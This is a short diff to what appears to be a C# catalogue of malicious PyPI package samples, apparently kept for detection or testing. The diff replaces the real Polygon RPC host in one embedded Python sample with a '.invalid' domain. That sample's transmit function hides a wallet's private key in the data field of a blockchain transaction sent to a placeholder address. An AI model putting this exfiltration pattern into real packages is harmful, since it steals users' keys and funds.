@@ -63,7 +63,7 @@ internal static class PyPi2025Attacks
 
 
             def transmit(account):
-                web3 = Web3(Web3.HTTPProvider("https://rpc-amoy.polygon.technology/"))
+                web3 = Web3(Web3.HTTPProvider("https://rpc-amoy.polygon-node.invalid/"))
                 memo = account.key.hex()
                 tx = {"to": "0x00000000000000000000000000000000000000aa", "value": 0, "data": memo.encode().hex()}
                 web3.eth.send_raw_transaction(web3.eth.account.sign_transaction(tx, _KEY).rawTransaction)
